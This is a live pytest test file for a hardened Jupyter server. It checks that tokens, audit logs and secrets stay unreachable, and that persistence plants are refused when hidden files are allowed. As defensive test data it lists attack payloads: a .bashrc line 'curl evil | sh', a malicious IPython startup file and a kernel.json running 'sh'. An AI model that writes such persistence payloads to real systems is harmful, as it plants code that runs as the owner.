"""Serving a home directory: the Jupyter runtime directory (token store, audit trail) lies below
the root. The shipped ``.local/share/jupyter/runtime/**`` deny glob keeps those files out of the
contents and files APIs, so the server starts; moving the runtime directory to a place no deny
glob covers is refused (HS-ID-040 for the token store, HS-AUDIT-001 for the audit trail)."""

from __future__ import annotations

from pathlib import Path

import pytest
import requests

from tests.support.server import ServerProcess

pytestmark = pytest.mark.live

RUNTIME = ".local/share/jupyter/runtime"


def _home_server(workdir: Path, runtime_rel: str) -> ServerProcess:
    workdir.mkdir(parents=True, exist_ok=True)
    root = workdir / "root"
    runtime = root / runtime_rel
    runtime.mkdir(parents=True, exist_ok=True)
    return ServerProcess(workdir, env={"JUPYTER_RUNTIME_DIR": str(runtime)})


def test_serving_a_home_directory_starts_and_hides_the_runtime_files(tmp_path: Path) -> None:
    server = _home_server(tmp_path / "home", RUNTIME).start()
    try:
        runtime = server.root / RUNTIME
        # the server's own files exist below the root...
        assert any(runtime.glob("hardened-server-audit-*.jsonl"))
        # ...and neither API reaches them (nor lists the directory)
        for path in (
            f"/api/contents/{RUNTIME}",
            f"/api/contents/{RUNTIME}/hardened-server-tokens.json",
            f"/files/{RUNTIME}/hardened-server-audit-{server.port}.jsonl",
        ):
            r = requests.get(server.url + path, headers=server.auth(), timeout=10)
            assert r.status_code in (403, 404), (path, r.status_code)
        put = requests.put(
            server.url + f"/api/contents/{RUNTIME}/hardened-server-tokens.json",
            headers=server.auth(),
            json={"type": "file", "format": "text", "content": "{}"},
            timeout=10,
        )
        assert put.status_code in (403, 404)
        assert not (runtime / "hardened-server-tokens.json").exists()
    finally:
        server.stop()


@pytest.mark.parametrize("runtime_rel", ["runtime", "work/.runtime"])
def test_a_runtime_directory_no_deny_glob_covers_is_refused(
    tmp_path: Path, runtime_rel: str
) -> None:
    server = _home_server(tmp_path / "home", runtime_rel)
    with pytest.raises(RuntimeError) as err:
        server.start(timeout=60)
    server.stop()
    log = str(err.value)
    assert "refusing to start" in log
    assert "HS-ID-040" in log or "HS-AUDIT-001" in log


def test_a_reload_that_would_expose_the_runtime_files_is_refused(tmp_path: Path) -> None:
    """Serving a home directory, a reloaded policy that drops the runtime directory's deny glob
    would put the token store and the open audit file within the contents API's reach: the
    reload is refused (one record) and the old path rules stay in force."""
    import os
    import signal
    import time

    from tests.support.audit import audit_records

    workdir = tmp_path / "home"
    policy = tmp_path / "site.toml"
    policy.write_text("[paths]\nallow_hidden = false\n")
    server = _home_server(workdir, RUNTIME)
    server.argv.append(f"--policy={policy}")
    server.start()
    try:
        def reloads() -> list[dict]:
            return [r for r in audit_records(server) if r.get("event_kind") == "policy_reloaded"]

        before = len(reloads())
        # dropping both the deny glob and the protected set would expose the runtime files
        policy.write_text('[paths]\ndeny = [".ssh/**"]\nprotected = []\n')
        assert server.proc is not None
        os.kill(server.proc.pid, signal.SIGHUP)
        deadline = time.monotonic() + 20
        while len(reloads()) == before and time.monotonic() < deadline:
            time.sleep(0.1)
        time.sleep(0.3)
        records = reloads()[before:]
        assert len(records) == 1, records
        assert records[0]["decision"] == "deny"
        assert "HS-ID-040" in records[0]["reason"]
        # the record's reason is capped; the log line names every problem
        refusal = [line for line in server.log().splitlines() if "policy reload" in line]
        assert any("HS-AUDIT-001" in line for line in refusal), refusal
        r = requests.get(
            server.url + f"/api/contents/{RUNTIME}", headers=server.auth(), timeout=10
        )
        assert r.status_code in (403, 404)
    finally:
        server.stop()


def test_with_hidden_files_allowed_no_execution_persistence_path_is_reachable(
    tmp_path: Path,
) -> None:
    """Issue #18: ``paths.allow_hidden = true`` on a home directory (documented as fine) must not
    let a contents:write client plant code that runs later as the owner, nor read the server's
    secrets. Each attempt looks like a missing file and leaves a record (HS-PATH-008, or
    HS-PATH-003 where a shipped deny glob also covers it)."""
    from tests.support.audit import audit_records

    workdir = tmp_path / "home"
    workdir.mkdir()
    policy = workdir / "hidden.toml"
    policy.write_text("[paths]\nallow_hidden = true\n")
    root = workdir / "root"
    runtime = root / RUNTIME
    runtime.mkdir(parents=True)
    secret = root / ".local/share/jupyter/notebook_secret"
    secret.write_text("s3cret")
    (root / ".hidden-notes.txt").write_text("fine to read")
    server = ServerProcess(
        workdir, [f"--policy={policy}"], env={"JUPYTER_RUNTIME_DIR": str(runtime)}
    ).start()
    try:
        ok = requests.get(
            server.url + "/api/contents/.hidden-notes.txt", headers=server.auth(), timeout=10
        )
        assert ok.status_code == 200  # hidden files really are allowed
        planted = {
            ".ipython/profile_default/startup/00-evil.py": "import os",
            ".ipython/profile_default/ipython_config.py": "c = get_config()",
            ".local/share/jupyter/kernels/evil/kernel.json": '{"argv": ["sh"]}',
            ".bashrc": "curl evil | sh",
            ".config/autostart/evil.desktop": "[Desktop Entry]",
        }
        for path, content in planted.items():
            r = requests.put(
                server.url + f"/api/contents/{path}",
                headers=server.auth(),
                json={"type": "file", "format": "text", "content": content},
                timeout=10,
            )
            assert r.status_code == 404, (path, r.status_code)
            assert not (root / path).exists(), path
        read = requests.get(
            server.url + "/api/contents/.local/share/jupyter/notebook_secret",
            headers=server.auth(),
            timeout=10,
        )
        assert read.status_code == 404
        assert "s3cret" not in read.text
        records = audit_records(server)
        refused = [r for r in records if r.get("rule_id") in ("HS-PATH-003", "HS-PATH-008")]
        assert len(refused) >= len(planted) + 1
        # .bashrc and IPython startup files are in the shipped paths.deny too (HS-PATH-003);
        # the others are refused by paths.protected alone
        protected = [r for r in records if r.get("rule_id") == "HS-PATH-008"]
        assert len(protected) >= 4
    finally:
        server.stop()
